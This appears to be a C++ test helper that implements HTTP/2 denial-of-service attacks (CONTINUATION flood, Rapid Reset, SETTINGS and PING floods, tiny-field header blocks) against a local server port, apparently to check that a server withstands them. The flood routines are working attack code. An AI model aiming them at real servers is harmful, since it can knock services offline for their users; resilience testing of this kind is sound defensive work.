#include "tests/fakes/h2_attacks.h"

#include "absl/strings/str_cat.h"
#include "tests/fakes/h2_frames.h"

namespace egress {
namespace {

using Clock = std::chrono::steady_clock;

double SecondsSince(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

// After the preface, SETTINGS and `opening`, sends the batches `next` makes
// (each says in its argument how much of `amount` it carries) until `amount`
// is reached, the server closes, or `limit` passes.
template <typename Next>
AttackResult Flood(int port, const std::string& opening, uint64_t amount,
                   std::chrono::seconds limit, Next next) {
  AttackResult result;
  const auto start = Clock::now();
  RawH2Client client(port);
  result.connected = client.connected();
  if (!result.connected) return result;
  if (!client.Send(std::string(kH2Preface) + H2Settings() + opening)) {
    result.closed = true;
    return result;
  }
  const auto end = start + limit;
  while (result.sent < amount && Clock::now() < end) {
    uint64_t counted = 0;
    const std::string batch = next(counted);
    if (!client.Send(batch)) {
      result.closed = true;
      break;
    }
    result.sent += counted;
  }
  if (!result.closed) {
    // A server that closed while the last batch sat in the socket buffers.
    result.closed = !client.DrainAvailable();
  }
  result.seconds = SecondsSince(start);
  return result;
}

}  // namespace

AttackResult ContinuationFlood(int port, uint64_t bytes,
                               std::chrono::seconds limit) {
  const std::string opening = H2Frame(
      kH2Headers, 0, 1, H2RequestHeaders("/grpc.health.v1.Health/Check"));
  // 16 KiB CONTINUATION frames of distinct-looking 8-byte fields, 64 at a time.
  std::string fields;
  while (fields.size() < 16000) fields += HpackLiteral("x-f", "abcd");
  std::string batch;
  for (int i = 0; i < 64; ++i) batch += H2Frame(kH2Continuation, 0, 1, fields);
  return Flood(port, opening, bytes, limit, [&](uint64_t& counted) {
    counted = batch.size();
    return batch;
  });
}

AttackResult RapidReset(int port, uint64_t pairs, std::chrono::seconds limit) {
  const std::string block = H2RequestHeaders("/grpc.health.v1.Health/Check");
  uint32_t stream = 1;
  return Flood(port, "", pairs, limit, [&](uint64_t& counted) {
    std::string batch;
    for (int i = 0; i < 100 && stream < 0x7fffff00u; ++i, stream += 2) {
      batch += H2Frame(kH2Headers, kH2EndHeaders, stream, block);
      batch += H2RstStream(stream);
      ++counted;
    }
    return batch;
  });
}

AttackResult SettingsFlood(int port, uint64_t frames,
                           std::chrono::seconds limit) {
  std::string batch;
  for (int i = 0; i < 1000; ++i) batch += H2Settings();
  return Flood(port, "", frames, limit, [&](uint64_t& counted) {
    counted = 1000;
    return batch;
  });
}

AttackResult PingFlood(int port, uint64_t frames, std::chrono::seconds limit) {
  std::string batch;
  for (int i = 0; i < 1000; ++i) batch += H2Ping();
  return Flood(port, "", frames, limit, [&](uint64_t& counted) {
    counted = 1000;
    return batch;
  });
}

AttackResult TinyFields(int port, uint64_t fields, uint64_t bytes,
                        std::chrono::seconds limit) {
  uint32_t stream = 1;
  std::string tiny;
  for (uint64_t i = 0; i < fields; ++i) tiny += HpackLiteral("a", "");
  return Flood(port, "", bytes, limit, [&](uint64_t& counted) {
    // One header block, split into 16 KiB frames.
    std::string block = H2RequestHeaders("/grpc.health.v1.Health/Check") + tiny;
    std::string batch;
    size_t at = 0;
    bool first = true;
    while (at < block.size()) {
      const size_t n = std::min<size_t>(16384, block.size() - at);
      const bool last = at + n == block.size();
      batch += H2Frame(first ? kH2Headers : kH2Continuation,
                       (last ? kH2EndHeaders : 0) | (first ? kH2EndStream : 0),
                       stream, absl::string_view(block).substr(at, n));
      at += n;
      first = false;
    }
    stream += 2;
    counted = batch.size();
    return batch;
  });
}

AttackResult RunAttack(const std::string& name, int port, uint64_t amount,
                       std::chrono::seconds limit) {
  if (name == "continuation") return ContinuationFlood(port, amount, limit);
  if (name == "rapid-reset") return RapidReset(port, amount, limit);
  if (name == "settings") return SettingsFlood(port, amount, limit);
  if (name == "ping") return PingFlood(port, amount, limit);
  if (name == "tiny-fields") return TinyFields(port, 100000, amount, limit);
  return AttackResult{};
}

}  // namespace egress
